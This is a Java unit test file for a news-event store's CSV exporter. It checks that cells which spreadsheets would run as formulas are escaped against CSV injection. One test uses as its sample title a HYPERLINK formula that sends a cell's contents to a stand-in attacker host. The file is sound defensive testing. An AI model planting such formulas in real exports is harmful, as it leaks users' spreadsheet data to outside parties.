package org.tidings.store;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.tidings.model.Article;
import org.tidings.model.Document;
import org.tidings.model.Layers;
import org.tidings.model.Outcome;

/** CSV exports do not hand a spreadsheet formulas taken from web pages (OWASP: CSV injection). */
class CsvFormulaEscapeTest {
  @TempDir Path dir;

  @Test
  void aTextCellThatASpreadsheetWouldRunGetsAQuoteANumberStaysANumber() {
    assertEquals("\"'=1+2\"", Exporter.csvCell("=1+2", true));
    assertEquals("\"'+49 30 1234\"", Exporter.csvCell("+49 30 1234", true));
    assertEquals("\"'-2 dead\"", Exporter.csvCell("-2 dead", true));
    assertEquals("\"'@SUM(A1:A9)\"", Exporter.csvCell("@SUM(A1:A9)", true));
    assertEquals("\"'\t=cmd\"", Exporter.csvCell("\t=cmd", true));
    assertEquals("\"'=HYPERLINK(\"\"http://x.example\"\",\"\"a, b\"\")\"",
        Exporter.csvCell("=HYPERLINK(\"http://x.example\",\"a, b\")", true), "quotes doubled as ever");
    assertEquals("-66.0", Exporter.csvCell(-66.0, true), "a negative number is not a formula");
    assertEquals("-3", Exporter.csvCell(-3L, true));
    assertEquals("Caracas = capital", Exporter.csvCell("Caracas = capital", true), "only the first character counts");
    assertEquals("=1+2", Exporter.csvCell("=1+2", false), "off: the text as it is");
  }

  @Test
  void anArticleTitledWithAFormulaIsExportedAsText() throws Exception {
    Outcome.Coded original = TestArticles.undated();
    Document doc = original.document();
    Article a = doc.article();
    String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Flags burned\")";
    Article titled = new Article(a.id(), a.url(), a.source(), formula, a.published(), a.language(), a.text(),
        a.segments(), a.origin(), a.externalId());
    Document retitled = Document.of(titled)
        .with(Layers.TIMES, doc.get(Layers.TIMES))
        .with(Layers.PLACES, doc.get(Layers.PLACES))
        .with(Layers.ACTORS, doc.get(Layers.ACTORS))
        .with(Layers.QUOTES, doc.get(Layers.QUOTES))
        .with(Layers.EVENTS, doc.get(Layers.EVENTS));
    try (EventStore store = EventStores.open(dir.resolve("t.duckdb").toString())) {
      store.ingest(new Outcome.Coded(retitled, original.warnings()));
      Path escaped = dir.resolve("escaped.csv");
      Path raw = dir.resolve("raw.csv");
      Exporter.export(store, EventQuery.all(), ExportFormat.CSV, escaped);
      Exporter.export(store, EventQuery.all(), ExportFormat.CSV, new Exporter.Options(false, false), raw);
      String csv = Files.readString(escaped, StandardCharsets.UTF_8);
      assertTrue(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Flags burned\"\")\","), csv);
      assertTrue(csv.contains(",-66.0,") || csv.contains(",-66,"), "the longitude stays a number: " + csv);
      // DuckDB's CSV reader gets the title back with the one quote in front
      try (var c = java.sql.DriverManager.getConnection("jdbc:duckdb:"); var st = c.createStatement();
          var rs = st.executeQuery("SELECT article_title FROM read_csv('" + escaped + "', header = true, quote = '\"', escape = '\"')")) {
        rs.next();
        assertEquals("'" + formula, rs.getString(1));
      }
      assertTrue(Files.readString(raw, StandardCharsets.UTF_8).contains(",\"=HYPERLINK("), "off by option");
    }
  }
}
